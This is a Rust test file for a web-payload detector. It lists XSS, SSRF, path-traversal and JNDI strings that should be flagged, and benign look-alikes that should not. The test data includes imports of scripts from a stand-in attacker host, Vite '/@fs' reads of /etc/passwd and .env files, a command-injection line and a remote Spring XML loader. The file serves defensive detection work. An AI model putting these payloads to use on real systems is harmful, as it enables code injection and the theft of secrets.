//! Web-facing payload families through the public API (XSS, SSRF/RFI, path traversal,
//! Java): attribute and script-string breaks, markup in data: URLs, obfuscated URLs and
//! traversal sequences, each with positives and hard negatives.

mod common;

use common::{assert_clean, assert_flags, families, findings};
use sentrace_detect::{Detector, Family};

#[test]
fn attribute_and_script_string_breaks() {
    let d = Detector::with_default_rules().unwrap();
    for v in [
        "  onabcdefgh= ",
        "'formaction=",
        "\" srcdoc=",
        "\"in valueOf=",
        "'  infoo.bar=",
        "' in window.name=1",
        "\"in valueOf=alert(1)",
        "\"onload=",
        "' onmouseover=alert(1)",
        "\"><a href=\"test\"",
    ] {
        assert_flags(&d, Family::Xss, v);
    }
    for v in [
        "\"in stock\"",
        "'in progress' = done",
        "\"index=2",
        "online=",
        "t=1614308115,v1=5257a869e7ecebeda32affa62cdca3fa51onabcd=6yJV_adQssw5c",
        "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0onload=.POstGet_K5DGFLJrRyhshDZI",
        "1a2b3c4d5e6f7g8h9i0j1k2l3m4n5onabcde=6p7q8r9s0t",
        "\"action items for Monday\"",
        "<p>see <a href=\"https://example.com/a\">the docs</a></p>",
        // A quote, then an `on...` word no browser runs as a handler, or `in` and a word
        // assigned plain text.
        "\"online=true\"",
        "'onboarding=done'",
        "\"in progress = true\"",
        "'in stock = yes'",
        // A tag left open with no break out of the page's markup is HTML in text.
        "<a href=\"https://example.com/\"",
        "How do I style <a href=\"#\"",
        "Check <img src=\"logo.png\"",
        // `on...` words at the end of prose or a query string.
        "sort by online=",
        "filter=status+online=",
        "abcd+onetwo=",
        // CJK text: 值/格 read as `<`, 设/放 as `>` and 是 as `/` by a 7-bit decoder.
        "参数值abc 设置成功，当前值是abc",
        "默认值null 设为空，返回值是null",
        "价格usd 放在这里，价格是usd",
    ] {
        assert_clean(&d, v);
    }
    // Normalization keeps the first 8 KiB: an input cut right after a quote or an `=`
    // does not end there (even one that starts by breaking out of an attribute).
    let mut cut_after_quote = String::from("\"><p>");
    cut_after_quote.push_str(&"lorem ".repeat(1350));
    cut_after_quote.push_str("<a href=\"https://example.com/page\">link</a></p>");
    let at = cut_after_quote.find("page\"").unwrap() + 4;
    let pad = 8191 - at;
    cut_after_quote.insert_str(5, &"y".repeat(pad));
    assert_eq!(cut_after_quote.as_bytes()[8191], b'"');
    assert_clean(&d, &cut_after_quote);
    for name in [" onboarding=", " onwards="] {
        let mut cut_after_eq = "word ".repeat(1635);
        cut_after_eq.push_str(&"abcdefgh"[..8192 - 8175 - name.len()]);
        cut_after_eq.push_str(name);
        cut_after_eq.push_str("true and more");
        assert_eq!(&cut_after_eq[8192 - name.len()..8192], name);
        assert_clean(&d, &cut_after_eq);
    }
}

#[test]
fn markup_in_data_urls_and_script_syntax() {
    let d = Detector::with_default_rules().unwrap();
    for v in [
        " data: , <x>",
        "data:,<svg onload=alert(1)>",
        "data:text/plain;charset=utf-8,<b>x",
        "<importimplementation=",
        "<!--#exec cmd=\"ls\" -->",
        "\"--><!--#echo var=\"DOCUMENT_ROOT\"-->",
        "btoa()",
        "eval('2 2')",
        "<!--#printenv -->",
        "import { sayHi, sayBye } from \"./greeting.js\";",
        "import * as m from 'https://evil.example/m.js'",
        "import x from \"//evil.example/x.js\"",
        "x;import('https://evil.example/x.js')",
    ] {
        assert_flags(&d, Family::Xss, v);
    }
    for v in [
        "metadata: , <none>",
        "data: 1, <b>",
        "Data: see the attached file",
        "I will import (and sell) them",
        "we import goods from China",
        "how to import a module from a package",
        "<!-- a comment -->",
        "new functionality (beta)",
        "Added a new function (parseDate) to utils",
        "Added a new function() to utils",
        // A module import by package name is code or prose as often as an attack.
        "Import data from 'Sheet1'",
        "import contacts from \"Outlook\"",
        "import React from 'react'",
        "Import users from 'legacy.csv' and notify",
        "<!-- # set up env -->",
        "<!-- #include header -->",
    ] {
        assert_clean(&d, v);
    }
    for v in [
        "new Function('return this')()",
        "new Function()",
        "new Function (",
    ] {
        assert_flags(&d, Family::CodeInjection, v);
    }
}

#[test]
fn obfuscated_urls_and_traversal() {
    let d = Detector::with_default_rules().unwrap();
    assert_flags(
        &d,
        Family::Ssrf,
        "http://\\\\g\\\\o\\\\o\\\\g\\\\l\\\\e.\\\\c\\\\o\\\\m/",
    );
    for v in [
        "0x5c0x2e.\\0/",
        "0x2f0x2e0x2e/x",
        "..0x2f..0x2f",
        "/@id/__x00__",
        "/@fs/etc/passwd",
        "/@fs/root/app/.env?raw??",
        "/@fs/home/alice/app/src/secret.ts?import&raw??",
        ">/tmp/curl",
        "x; id 2>>/dev/shm/o",
    ] {
        assert_flags(&d, Family::PathTraversal, v);
    }
    assert_flags(
        &d,
        Family::Jndi,
        "com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext('http://x/wb.xml')",
    );
    for v in [
        "http://\\\\example.com/",
        "https://example.com/a\\b",
        "0x2e is the code of a dot",
        "color 0x2f2f2f",
        "/@alice/109876543210",
        "/@fs/123",
        // Vite dev-server module paths of project files; a Windows path in a file URL.
        "/@fs/home/alice/monorepo/packages/ui/src/index.ts",
        "/@fs/usr/src/app/src/main.tsx",
        "> /tmp/ is full again, see the log",
        "a=>/tmp",
        "cp a.txt /tmp/b.txt",
    ] {
        let f = families(&d, v);
        assert!(
            !f.contains(&Family::Ssrf) && !f.contains(&Family::PathTraversal),
            "false positive on {v:?}: {f:?}"
        );
    }
    // A Windows path in a file URL is not a host split by backslashes (the file: scheme
    // itself is reported by the LFI and SSRF checks).
    let v = "file://c:\\users\\bob\\documents\\x.pdf";
    let hits: Vec<_> = findings(&d, v)
        .into_iter()
        .filter(|(_, hit)| hit.starts_with("rfi-patterns "))
        .collect();
    assert!(hits.is_empty(), "false positive on {v:?}: {hits:?}");
}
